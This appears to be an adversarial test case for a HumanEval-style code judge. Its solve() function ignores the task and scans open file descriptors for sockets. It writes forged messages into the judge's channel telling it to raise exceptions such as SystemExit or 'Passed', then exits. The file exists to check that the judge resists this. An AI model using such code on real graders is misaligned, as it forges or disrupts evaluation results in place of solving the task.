# forge_link_raises | format: humaneval | names exceptions for the judge to raise that would end it, or would be taken for its own | expect: wrong-answer, runtime-error, forbidden | variants: 10
import os, stat, struct
variant = 0
u = lambda n: struct.pack("<I", n)
def text(s): return b"s" + u(len(s)) + s
names = (b"SystemExit", b"KeyboardInterrupt", b"StopIteration", b"MemoryError", b"SyntaxError", b"__import__", b"exec", b"BaseException", b"GeneratorExit", b"Passed")
def solve(xs):
    for fd in range(3, 64):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                body = text(b"raise") + text(names[variant]) + b"t" + u(1) + text(b"0") + text(names[variant]) + text(b"0") + text(b"last")
                os.write(fd, u(len(body)) + body)
        except OSError: pass
    import time
    time.sleep(0.2)
    os._exit(0)
